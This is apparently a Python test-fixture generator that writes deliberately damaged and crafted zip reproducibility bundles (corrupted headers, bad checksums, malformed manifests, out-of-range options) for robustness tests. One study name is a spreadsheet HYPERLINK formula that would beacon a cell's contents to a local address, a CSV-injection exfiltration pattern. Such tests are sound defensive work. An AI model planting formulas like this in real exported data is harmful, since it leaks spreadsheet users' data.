"""A corpus of damaged and crafted reproducibility bundles (issue 25 #2–#4, #7).

``python -m tests.hostile_bundles`` writes them to tests/fixtures/hostile_bundles/ (small, committed);
tests/test_bundle_hostile.py reads the committed files. Each one either fails with a plain
``DataError`` (a damaged zip, a wrong manifest) or loads with its bad option values dropped and named.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import struct
import zipfile
from pathlib import Path

import pandas as pd

from analysis import bundle as abundle
from analysis.lagged import LagOptions
from analysis.simulate import simulate_study

HERE = Path(__file__).resolve().parent / "fixtures" / "hostile_bundles"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/beacon-csv?"&A1,"x")'


def small_frame() -> pd.DataFrame:
    """Two studies x 4 patients x 4 sessions; a formula-like study name, patient names beginning ' and @."""
    a = simulate_study(4, range(1, 5), study=FORMULA, seed=1).data
    b = simulate_study(4, range(1, 5), study="'quoted", seed=2).data
    b["patient"] = "@" + b["patient"].astype(str)
    return pd.concat([a, b], ignore_index=True)


def good_bundle() -> bytes:
    df = small_frame()
    return abundle.make_bundle(df, LagOptions(), "small", page_options={"teach_within": 0.2},
                               created=dt.datetime(2026, 1, 1, tzinfo=dt.UTC))


def _members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return {n: z.read(n) for n in z.namelist()}


def rebuild(files: dict[str, bytes], manifest_edit=None, file_edits: dict | None = None) -> bytes:
    """The bundle with ``file_edits`` ({name: new bytes}) applied, checksums made consistent again, then
    ``manifest_edit(manifest)`` applied (so the manifest itself can be made wrong)."""
    files = dict(files)
    manifest = json.loads(files.pop("manifest.json"))
    for n, b in (file_edits or {}).items():
        files[n] = b
        for f in manifest["files"]:
            if f["name"] == n:
                f["sha256"], f["bytes"] = hashlib.sha256(b).hexdigest(), len(b)
    if manifest_edit is not None:
        manifest = manifest_edit(manifest) or manifest
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("manifest.json", json.dumps(manifest) if not isinstance(manifest, bytes) else manifest)
        for n, b in files.items():
            z.writestr(n, b)
    return buf.getvalue()


def _options(files, lag=None, pages=None) -> bytes:
    doc = json.loads(files["options.json"])
    if lag is not None:
        doc["lag_options"].update(lag)
    if pages is not None:
        doc["page_options"] = pages
    return json.dumps(doc).encode() if not isinstance(lag, str) else lag.encode()


def _patch_headers(content: bytes, name: bytes, *, flag: int | None = None, method: int | None = None,
                   size: int | None = None) -> bytes:
    """Change a member's general-purpose flag, compression method or uncompressed size in both its local
    header and its central-directory entry (what a hand-edited or damaged zip looks like)."""
    b = bytearray(content)
    i = 0
    while (i := b.find(b"PK\x03\x04", i)) >= 0:
        n_len = struct.unpack_from("<H", b, i + 26)[0]
        if bytes(b[i + 30:i + 30 + n_len]) == name:
            if flag is not None:
                struct.pack_into("<H", b, i + 6, flag)
            if method is not None:
                struct.pack_into("<H", b, i + 8, method)
            if size is not None:
                struct.pack_into("<I", b, i + 22, size)
        i += 4
    i = 0
    while (i := b.find(b"PK\x01\x02", i)) >= 0:
        n_len = struct.unpack_from("<H", b, i + 28)[0]
        if bytes(b[i + 46:i + 46 + n_len]) == name:
            if flag is not None:
                struct.pack_into("<H", b, i + 8, flag)
            if method is not None:
                struct.pack_into("<H", b, i + 10, method)
            if size is not None:
                struct.pack_into("<I", b, i + 24, size)
        i += 4
    return bytes(b)


def _corrupt_data(content: bytes, name: bytes, offset: int = 40) -> bytes:
    """Overwrite bytes inside a member's compressed data."""
    b = bytearray(content)
    i = b.find(b"PK\x03\x04")
    while i >= 0:
        n_len, x_len = struct.unpack_from("<HH", b, i + 26)
        if bytes(b[i + 30:i + 30 + n_len]) == name:
            start = i + 30 + n_len + x_len
            for k in range(start + offset, start + offset + 16):
                b[k] ^= 0x5A
            return bytes(b)
        i = b.find(b"PK\x03\x04", i + 4)
    raise AssertionError(name)


def corpus() -> dict[str, tuple[bytes, str]]:
    """name → (bundle bytes, what must happen: "error" or "dropped")."""
    good = good_bundle()
    files = _members(good)
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as z:
        for n, b in files.items():
            z.writestr(n, b)
    stored = stored.getvalue()
    out = {
        "encrypted_member": (_patch_headers(good, b"options.json", flag=0x1), "error"),
        "bad_crc": (_corrupt_data(stored, b"data.csv"), "error"),
        "lying_size": (_patch_headers(stored, b"data.csv", size=10), "error"),
        "compression_99": (_patch_headers(good, b"data.csv", method=99), "error"),
        "corrupt_deflate": (_corrupt_data(good, b"data.csv", offset=8), "error"),
        "truncated": (good[: len(good) // 2], "error"),
        "manifest_files_5": (rebuild(files, lambda m: m.update(files=5)), "error"),
        "manifest_name_list": (rebuild(files, lambda m: m["files"][0].update(name=["a"])), "error"),
        "manifest_data_list": (rebuild(files, lambda m: m.update(data=[1])), "error"),
        "manifest_not_json": (rebuild(files, lambda m: b"{not json"), "error"),
        "manifest_nan": (rebuild(files, lambda m: m.update(data={**m["data"], "rows": float("nan")})), "error"),
        "sessions_huge": (rebuild(files, file_edits={"options.json": _options(files, {"sessions": [0, 1e308]})}),
                          "dropped"),
        "sessions_inf": (rebuild(files, file_edits={"options.json": _options(files, {}).replace(
            b'"sessions": null', b'"sessions": [0, 1e400]')}), "dropped"),
        "window_negative": (rebuild(files, file_edits={"options.json": _options(
            files, pages={"opt_window": [-5, 1e12], "teach_within": 0.1})}), "dropped"),
        "directions_evil": (rebuild(files, file_edits={"options.json": _options(files, {"directions": ["evil"]})}),
                            "dropped"),
        "page_options_list": (rebuild(files, file_edits={"options.json": _options(files, pages=[[1, 2, 3]])}),
                              "dropped"),
        "page_text_for_number": (rebuild(files, file_edits={"options.json": _options(
            files, pages={"teach_patients": "many", "scr_ref_mode": 3, "ev_k": "x"})}), "dropped"),
        "dataset_key": (rebuild(files, file_edits={"options.json": _options(files, pages={"dataset": 1})}),
                        "dropped"),
        "impossible_combination": (rebuild(files, file_edits={"options.json": _options(
            files, {"estimator": "fixed_effects", "time_trend": "fixed_random"})}), "dropped"),
        "lag_options_text": (rebuild(files, file_edits={"options.json": json.dumps(
            {"lag_options": "x", "page_options": {}}).encode()}), "dropped"),
    }
    return out


def main() -> None:
    HERE.mkdir(parents=True, exist_ok=True)
    for name, (content, _what) in corpus().items():
        (HERE / f"{name}.zip").write_bytes(content)
    (HERE / "expected.json").write_text(json.dumps({n: w for n, (_c, w) in corpus().items()}, indent=1) + "\n")


if __name__ == "__main__":
    main()
